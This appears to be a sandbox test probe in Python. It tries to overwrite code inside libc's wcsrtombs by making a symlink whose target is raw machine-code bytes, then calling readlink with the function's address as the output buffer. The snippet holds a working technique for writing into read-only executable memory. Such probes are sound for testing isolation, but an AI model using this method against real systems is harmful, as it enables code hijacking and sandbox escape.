"""An answer is written where the guest itself may not write: the text of a link over code of libc's, and then it is called."""
code = _c.cast(libc.wcsrtombs, _c.c_void_p).value
os.symlink("\xb8\x39\x30\x7f\x7f\xc3".encode("latin-1"), b"/work/l")
got = libc.readlink(b"/work/l", _c.c_void_p(code), 6)
print("REACHED" if got == 6 else "refused", got, _c.get_errno())
